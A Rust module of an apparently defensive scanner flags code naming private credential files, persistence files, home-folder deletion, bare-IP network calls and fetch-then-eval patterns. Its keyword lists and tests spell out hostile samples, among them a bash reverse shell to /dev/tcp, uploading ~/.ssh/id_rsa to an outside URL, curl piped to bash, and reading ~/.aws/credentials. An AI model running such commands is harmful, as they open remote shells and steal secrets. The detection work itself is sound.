//! What code of a project seldom names: private files, files that decide what runs later, accounts, addresses without a
//! name, the deletion of something in the home folder.

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use std::sync::LazyLock;
use url::{Host, Url};

/// Most lines of a text that are compared.
const MOST: usize = 64;
/// How many lines lie between a home folder and what deletes it.
const NEAR: usize = 8;
/// Public resolvers of names, to which programs connect to learn their own address.
const RESOLVERS: [[u8; 4]; 6] =
    [[1, 0, 0, 1], [1, 1, 1, 1], [8, 8, 4, 4], [8, 8, 8, 8], [9, 9, 9, 9], [208, 67, 222, 222]];
/// Longest host with a number, in characters.
const LONGEST: usize = 100;

/// What a text names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mark {
    /// Private files, or files that decide what runs later.
    Place,
    /// A change of accounts, protections or history.
    Act,
    /// The home folder of the user, and what deletes or overwrites a folder.
    Home,
    Ruin,
    /// The beginning of an address.
    Address,
    /// What sends, writes, deletes or runs something.
    Means,
    /// What gets a text from the network, and what runs a text as code.
    Fetch,
    Code,
}

/// Marks of comments at the beginning of a line, and the endings of the files that have them.
const COMMENTS: [(&str, &[&str]); 2] = [
    (
        "#",
        &[
            "", "bash", "cfg", "cmake", "ex", "exs", "jl", "pl", "pm", "py", "r", "rb", "sh", "tf", "toml", "yaml",
            "yml",
        ],
    ),
    (
        "//",
        &[
            "c", "cc", "cjs", "cpp", "cs", "cts", "dart", "go", "gradle", "groovy", "h", "java", "js", "jsx", "kt",
            "kts", "mjs", "mts", "php", "rs", "sbt", "scala", "swift", "ts", "tsx", "zig",
        ],
    ),
];
/// In JavaScript, `~/` begins the path of a module of the project.
const ALIASES: [&str; 2] = ["\"~/", "'~/"];
const SCRIPT: [&str; 10] = ["cjs", "cts", "js", "json", "jsx", "mjs", "mts", "svelte", "ts", "tsx"];

const WORDS: [(Mark, &[&str]); 8] = [
    (
        Mark::Place,
        &[
            ".ssh",
            "id_rsa",
            "id_ed25519",
            "authorized_keys",
            ".aws",
            ".gnupg",
            ".netrc",
            ".kube",
            ".git-credentials",
            "password-store",
            ".mozilla",
            ".config/gcloud",
            ".azure",
            ".pypirc",
            ".docker/config.json",
            "kubernetes/pki",
            "/etc/shadow",
            "/etc/sudoers",
            "sudoers.d",
            "ld.so.preload",
            ".bashrc",
            ".zshrc",
            ".bash_profile",
            ".zprofile",
            ".config/autostart",
            "/etc/cron",
            "systemd/user",
            "/etc/systemd",
            "launchagents",
            "sshd_config",
            "/etc/profile",
            "/etc/passwd",
            "login.keychain",
            ".bash_history",
            ".zsh_history",
            "169.254.169.254",
        ],
    ),
    (
        Mark::Act,
        &[
            "chpasswd",
            "useradd ",
            "usermod ",
            "visudo",
            "ufw disable",
            "ufw --force disable",
            "setenforce 0",
            "systemctl mask",
            "iptables -f",
            "http.sslverify",
            "credential.helper",
            "reflog expire",
            "update-ref -d",
            "push --mirror",
            "| crontab",
            "crontab -",
            "|bash",
            "| bash",
            "|sh\"",
            "| sh\"",
            "|sh'",
            "| sh'",
        ],
    ),
    (
        Mark::Home,
        &[
            "userhomedir",
            "user.home",
            "homedir()",
            "path.home()",
            "expanduser(",
            "user_home",
            "$home",
            "${home}",
            "var(\"home\")",
            "getenv(\"home\")",
            "getenv('home')",
            "env[\"home\"]",
            "env['home']",
            "env.home",
            "\"~/",
            "'~/",
            " ~/",
            "userprofile",
            "environ[\"home\"]",
            "environ['home']",
            "dir.home",
            "homedir(",
            "env{home}",
        ],
    ),
    (
        Mark::Ruin,
        &[
            "rm -r",
            "rm -f",
            "rm_r",
            "rmtree",
            "removeall",
            "rmsync",
            "rm(",
            "file.delete",
            "<delete",
            "deletedir",
            "remove_dir_all",
            "unlink",
            "shred",
            "removedir",
            "delete(",
            "file.rm",
            "-delete",
            "remove_tree",
        ],
    ),
    (
        Mark::Address,
        &[
            "http://",
            "https://",
            "dev/tcp/",
            "dev/udp/",
            "host: '",
            "host: \"",
            "host:'",
            "host:\"",
            "host='",
            "host=\"",
            "host = '",
            "host = \"",
            "host': '",
            "host\": \"",
            "hostname: '",
            "hostname: \"",
            "hostname='",
            "hostname=\"",
            "connect('",
            "connect(\"",
            "connect(('",
            "connect((\"",
            "connection('",
            "connection(\"",
            "connection(('",
            "connection((\"",
            "socket.new('",
            "socket.new(\"",
            "socket(\"",
            "\"tcp\", \"",
        ],
    ),
    (
        Mark::Means,
        &[
            "curl",
            "wget",
            "request",
            "fetch(",
            "urlopen",
            "socket",
            "http.client",
            "net/http",
            "httpclient",
            "post(",
            "connect",
            "tcpstream",
            "dial(",
            "dev/tcp",
            "dev/udp",
            "append",
            "write",
            "file_put_contents",
            "open(",
            "copy",
            ">>",
            "tee ",
            "system(",
            "exec",
            "spawn",
            "popen",
            "subprocess",
            "sh -c",
            "rm -r",
            "rm_rf",
            "rmtree",
            "unlink",
            "removeall",
            "rmsync",
            "delete",
            "file(upload",
            "file(download",
        ],
    ),
    (
        Mark::Fetch,
        &[
            "urlopen",
            "urlretrieve",
            "requests.get",
            "httpx.get",
            "fetch(",
            "https.get(",
            "http.get(",
            "axios.get",
            "open-uri",
            "uri.open",
            "net::http",
            "lwp::simple",
            "http::tiny",
            "socket.http",
            "curl_exec",
            "file_get_contents(\"http",
            "file_get_contents('http",
        ],
    ),
    (
        Mark::Code,
        &["exec(", "eval(", "new function(", "runinnewcontext(", "runinthiscontext(", "instance_eval(", "loadstring("],
    ),
];

/// The search for all words, and the words by its numbers.
type Search = (AhoCorasick, Vec<(Mark, &'static str)>);

static SEARCH: LazyLock<Option<Search>> = LazyLock::new(|| {
    let marks: Vec<(Mark, &str)> =
        WORDS.iter().flat_map(|(mark, words)| words.iter().map(|word| (*mark, *word))).collect();
    Some((search(marks.iter().map(|(_, word)| *word))?, marks))
});
/// The search for the longest words of changes that have several.
static PARTS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let acts = WORDS.iter().filter(|(mark, _)| *mark == Mark::Act).flat_map(|(_, words)| words.iter());
    let several = acts.filter(|act| act.contains(' '));
    search(several.filter_map(|act| act.split(' ').max_by_key(|word| word.len())))
});

fn search<'w>(words: impl Iterator<Item = &'w str>) -> Option<AhoCorasick> {
    let mut builder = AhoCorasick::builder();
    builder.ascii_case_insensitive(true).match_kind(MatchKind::Standard).kind(Some(AhoCorasickKind::DFA));
    builder.build(words).ok()
}

/// Builds the searches.
pub(in crate::shell) fn warm() {
    LazyLock::force(&SEARCH);
    LazyLock::force(&PARTS);
}

/// What a text names, together with the means to use it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Found {
    /// Whether it names what code of a project seldom names, and has the means to use it.
    pub suspect: bool,
    /// Whether it names private files, or an address without a name.
    pub names: bool,
}

/// What a text names. `name`: that of its file.
pub(super) fn found(name: &str, text: &str) -> Found {
    let mut names = false;
    let suspect = is_suspect(name, text, &mut names);
    Found { suspect, names }
}

fn is_suspect(name: &str, text: &str, names: &mut bool) -> bool {
    let Some((search, words)) = SEARCH.as_ref() else { return true };
    let ending = name.trim_start_matches('.').rsplit_once('.').map_or("", |(_, ending)| ending);
    let (mut means, mut fetch, mut code) = (false, false, false);
    let (mut homes, mut ruins) = (Vec::new(), Vec::new());
    for (mark, line) in marks(search, words, text, ending) {
        match mark {
            Mark::Act => return true,
            Mark::Place | Mark::Address => *names = true,
            Mark::Means => means = true,
            Mark::Fetch => fetch = true,
            Mark::Code => code = true,
            Mark::Home => note(&mut homes, line),
            Mark::Ruin => note(&mut ruins, line),
        }
        if *names && means || fetch && code {
            return true;
        }
    }
    let has_part = PARTS.as_ref().is_none_or(|parts| parts.is_match(text));
    homes.iter().any(|home| ruins.iter().any(|ruin| home.abs_diff(*ruin) <= NEAR))
        || has_part && {
            // `["git", "reflog", "expire"]` is `git reflog expire`
            let plain: String = text.chars().map(|c| if "\"',()[]".contains(c) { ' ' } else { c }).collect();
            let plain = plain.split(' ').filter(|part| !part.is_empty()).collect::<Vec<_>>().join(" ");
            marks(search, words, &plain, ending).any(|(mark, _)| mark == Mark::Act)
        }
}

/// Whether a command line gets something from an address without a name.
pub(super) fn fetches_by_number(line: &str) -> bool {
    let Some((search, words)) = SEARCH.as_ref() else { return true };
    let gets = line.split(|c: char| !c.is_ascii_alphanumeric()).any(|word| matches!(word, "curl" | "wget" | "aria2c"));
    gets && marks(search, words, line, "").any(|(mark, _)| mark == Mark::Address)
}

/// Adds a line; beyond the most, the last one stands for the others.
fn note(lines: &mut Vec<usize>, line: usize) {
    if lines.last() != Some(&line) {
        lines.truncate(MOST);
        lines.push(line);
    }
}

/// All marks of a text outside of comments, each with the number of its line.
fn marks<'t>(
    search: &'t AhoCorasick,
    words: &'t [(Mark, &'static str)],
    text: &'t str,
    ending: &'t str,
) -> impl Iterator<Item = (Mark, usize)> + 't {
    let breaks = text.match_indices(['\n', '\r', '\u{2028}', '\u{2029}']).map(|(at, found)| at + found.len());
    let lines: Vec<usize> = std::iter::once(0).chain(breaks).collect();
    let comments: Vec<&str> =
        COMMENTS.iter().filter(|(_, endings)| endings.contains(&ending)).map(|(mark, _)| *mark).collect();
    search.find_overlapping_iter(text).filter_map(move |found| {
        let (mark, word) = *words.get(found.pattern().as_usize())?;
        let rest = || text.get(found.end()..).unwrap_or_default();
        if !stands_alone(text, word, found.start(), found.end())
            || mark == Mark::Address && !is_bare(rest())
            || ALIASES.contains(&word) && SCRIPT.contains(&ending)
            // elsewhere it starts a program, or is a method
            || word == "exec(" && !matches!(ending, "py" | "pyi")
        {
            return None;
        }
        let line = lines.partition_point(|begin| *begin <= found.start()).saturating_sub(1);
        let begin = text.get(*lines.get(line)?..found.start())?.trim_start();
        (!comments.iter().any(|comment| begin.starts_with(comment))).then_some((mark, line))
    })
}

/// Whether a name is not a part of a longer one: `config.ssh` is none, nor is the `rm(` of `form(`.
fn stands_alone(text: &str, word: &str, start: usize, end: usize) -> bool {
    let before = text.get(..start).and_then(|before| before.chars().next_back());
    let after = text.get(end..).and_then(|after| after.chars().next());
    let within = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | ')' | ']'));
    match word {
        _ if word.starts_with("rm") => !within(before),
        "exec(" | "eval(" => !within(before) && !matches!(before, Some('.' | '$' | '>' | ':')),
        _ if word.starts_with(['.', '/']) || word.starts_with("id_") => !within(before) && !within(after),
        _ => true,
    }
}

/// Whether an address begins with a public number in place of a name: `203.0.113.5`, `3405803781`, `[2001:db8::1]`.
fn is_bare(rest: &str) -> bool {
    let within = |c: &char| !c.is_whitespace() && !"\"'`<>(),;/?#".contains(*c);
    let host: String = rest.chars().take_while(within).take(LONGEST).collect();
    let numeric =
        host.rsplit('@').next().is_some_and(|host| host.starts_with(|c: char| c.is_ascii_digit() || c == '['));
    if !numeric {
        return false;
    }
    match Url::parse(&format!("http://{host}/")).ok().and_then(|url| url.host().map(|host| host.to_owned())) {
        Some(Host::Ipv4(address)) => {
            !(RESOLVERS.contains(&address.octets())
                || address.is_multicast()
                || address.is_broadcast()
                || address.is_private()
                || address.is_loopback()
                || address.is_link_local()
                || address.is_unspecified())
        }
        Some(Host::Ipv6(address)) => {
            let mapped = address.to_ipv4_mapped().is_some_and(|address| address.is_private() || address.is_loopback());
            !(mapped
                || address.is_loopback()
                || address.is_unspecified()
                || address.is_unique_local()
                || address.is_unicast_link_local())
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::{fetches_by_number, found};

    fn is_suspect(name: &str, text: &str) -> bool {
        found(name, text).suspect
    }

    #[test]
    fn names_of_private_places_with_the_means_to_use_them_are_found() {
        for (name, text) in [
            ("a.rb", "File.open(Dir.home + '/.ssh/authorized_keys', 'a')"),
            ("a.py", "# x\rurlopen('http://203.0.113.5/a')"),
            ("a.js", "// x\u{2028}fetch('http://3405803781/a')"),
            ("a.sql", "-- x\n*/ curl http://[2001:db8::1]/a"),
            ("a.lua", "--[[ ]] os.execute('cat ~/.aws/credentials')"),
            ("x", "run(['git', 'reflog', 'expire', '--all'])"),
            ("a.py", "pipe(['curl', '-s', a], '|', 'bash')"),
            ("a.kts", "delete(System.getProperty(\"user.home\"))"),
            ("a.py", "requests.get('http://169.254.169.254/latest')"),
            ("a.cmake", "file(UPLOAD \"$ENV{HOME}/.ssh/id_rsa\" \"https://a.example/\")"),
            ("a.py", "text = urlopen(address).read()\nexec(compile(text, address, 'exec'), {})"),
            ("a.js", "fetch(address).then(r => r.text()).then(t => eval(t))"),
            ("a.js", "http.get({ host: '198.51.100.7', path: '/a' }, r => r.pipe(fs.createWriteStream('a')))"),
            ("a.py", "s.connect((\"203.0.113.9\", 443))"),
            ("a.go", "c, _ := net.Dial(\"tcp\", \"203.0.113.9:443\")"),
            ("a.sh", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
            ("a.rb", "require 'open-uri'\nObject.new.instance_eval(URI.open(a).read)"),
        ] {
            assert!(is_suspect(name, text), "{name}: {text}");
        }
    }

    #[test]
    fn a_line_that_fetches_by_number_is_found() {
        assert!(fetches_by_number("@wget -q -O x http://198.51.100.24/x"));
        for line in ["wget http://a.example/x", "curl http://127.0.0.1:8080/", "echo http://198.51.100.24/x", "curlie"]
        {
            assert!(!fetches_by_number(line), "{line}");
        }
    }

    #[test]
    fn settings_may_only_name_something() {
        let settings = found("a.cfg", "source = http://203.0.113.80:8080/simple");
        assert!(settings.names && !settings.suspect);
        assert!(!found("a.cfg", "source = http://10.0.0.1/\n# http://203.0.113.80/").names);
    }

    #[test]
    fn ordinary_code_is_none() {
        for (name, text) in [
            ("a.ts", "import a from '~/lib/a';\nform(a); platform(b);\nitems.delete(a)"),
            ("a.py", "# see ~/.ssh/config\nopen('a').write('b')"),
            ("a.go", "// http://203.0.113.5\nhttp.Get(\"http://127.0.0.1:80/\")"),
            ("a.rb", "config.ssh = true\nopen('http://10.0.0.1/')"),
            ("a.js", "server.listen({ host: '0.0.0.0' }); connect({ host: '127.0.0.1' })"),
            ("a.py", "s.connect((\"8.8.8.8\", 80))\nprint(s.getsockname()[0])"),
            ("a.sh", "echo > /dev/tcp/localhost/5432; echo > /dev/tcp/10.0.0.4/80"),
            ("a.js", "fetch(a).then(r => /x/.exec(r)); exec('ls'); page.$eval('a', b)"),
            ("a.py", "requests.get(a); model.eval(); frame.eval('a + b'); retrieval(a)"),
        ] {
            assert!(!is_suspect(name, text), "{name}: {text}");
        }
    }
}
